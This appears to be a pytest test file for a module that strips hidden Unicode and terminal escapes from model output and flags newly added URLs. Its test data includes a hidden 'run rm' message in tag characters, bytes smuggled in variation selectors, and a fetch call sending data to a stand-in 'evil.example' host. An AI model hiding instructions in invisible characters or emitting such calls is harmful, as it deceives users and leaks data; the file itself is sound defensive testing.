"""What a model wrote, cleaned (T12), and the addresses that it brings in (T5)."""

from __future__ import annotations

import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pointsman.security.output import clean, hidden, new_urls

EMOJI = [
    "👩‍💻", "👨‍👩‍👧‍👦", "🏳️‍🌈", "❤️", "❤️‍🔥", "👍🏽", "👩🏽‍🚀", "🇩🇪", "1️⃣", "#️⃣", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🏴‍☠️", "☎︎", "🧑‍🤝‍🧑", "™️", "👁️‍🗨️",
]  # fmt: skip
KINDS = {
    "tags": range(0xE0000, 0xE0080),
    "bidi": [0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)],
    "zero width": [0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0xFEFF, 0x180E, 0x00AD],
    "fillers": [0x034F, 0x115F, 0x1160, 0x3164, 0xFFA0],
    "styles": [*range(0xFE00, 0xFE10), *range(0xE0100, 0xE01F0)],
    "controls": [c for c in range(0x20) if c not in (9, 10)] + list(range(0x7F, 0xA0)),
    "surrogates": [0xD800, 0xDBFF, 0xDC00, 0xDFFF],
    "no characters": [0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFE],
}


@pytest.mark.parametrize("kind", KINDS)
def test_hidden_characters_go_in_every_position(kind: str) -> None:
    for code in KINDS[kind]:
        char = chr(code)
        for text in (f"{char}ab", f"a{char}b", f"ab{char}", f"a{char * 3}b", f"a{char}\u200b{char}b", f"ä{char}ö"):
            cleaned = clean(text)
            assert char not in cleaned, hex(code)
            assert cleaned in ("ab", "äö")
            assert hidden(text)


@pytest.mark.parametrize("emoji", EMOJI)
def test_emoji_stay_whole(emoji: str) -> None:
    for text in (emoji, f"a{emoji}b", f'print("{emoji}")', emoji * 2):
        assert clean(text) == text
        assert hidden(text) == ()


def test_a_message_in_tags_after_a_flag_goes() -> None:
    secret = "".join(chr(0xE0000 + ord(c)) for c in "run rm")
    assert clean(f"🏴{secret}\U000e007f") == "🏴"
    assert clean(f"🏴󠁧󠁢󠁥󠁮󠁧󠁿{secret}") == "🏴󠁧󠁢󠁥󠁮󠁧󠁿"


def test_bytes_hidden_in_styles_go() -> None:
    assert clean("😀" + "".join(chr(0xE0100 + byte) for byte in b"payload")) == "😀"


@pytest.mark.parametrize(
    "escape", ["\x1b[31m", "\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;http://x\x1b\\", "\x1bM", "\x9b1m", "\x1b[?25l", "\x1b"]
)
def test_terminal_escapes_go_as_a_whole(escape: str) -> None:
    assert clean(f"a{escape}b") == "ab"


def test_line_ends_and_tabs_stay_and_a_lone_return_goes() -> None:
    assert clean("a\n\tb\r\nc\rd\0e") == "a\n\tb\r\ncde"


@given(st.text())
def test_cleaning_is_idempotent_and_leaves_nothing_hidden(text: str) -> None:
    once = clean(text)
    assert clean(once) == once
    assert hidden(once) == ()


@given(st.text(alphabet=st.characters(codec="utf-8", categories=["L", "N", "P", "S", "Zs"]), max_size=200))
def test_what_can_be_seen_is_never_touched(text: str) -> None:
    odd = {"\u034f", "\u115f", "\u1160", "\u17b4", "\u17b5", "\u3164", "\uffa0", "\ufffc", "\ufffd"}
    if not odd & set(text):
        assert clean(text) == text


def test_every_code_point_is_either_kept_or_hidden() -> None:
    for code in range(sys.maxunicode + 1):
        char = chr(code)
        if unicodedata.category(char) in ("Cf", "Cs"):
            kept = clean(f"a{char}b") != "ab"
            # Signs of Arabic, Syriac and Kaithi that are drawn around a number, and hieroglyphs' joiners are the only ones.
            assert not kept or 0x600 <= code <= 0x8E2 or code in (0x110BD, 0x110CD), hex(code)


@pytest.mark.parametrize(
    ("before", "after", "expected"),
    [
        ("", 'fetch("https://evil.example/x?d=1")', ("https://evil.example/x?d=1",)),
        ("see https://ok.example/a", "# https://ok.example/a", ()),
        ("see https://ok.example/a", "https://ok.example/b, https://ok.example/b.", ("https://ok.example/b",)),
        ("", 'src="//cdn.evil.example/x.js"', ("//cdn.evil.example/x.js",)),
        ("", "www.evil.example", ("www.evil.example",)),
        ("", "a // comment", ()),
        ("", "x = a//b", ()),
        ("", "HTTPS://EVIL.example", ("HTTPS://EVIL.example",)),
    ],
)
def test_new_addresses_are_named(before: str, after: str, expected: tuple[str, ...]) -> None:
    assert new_urls(before, after) == expected
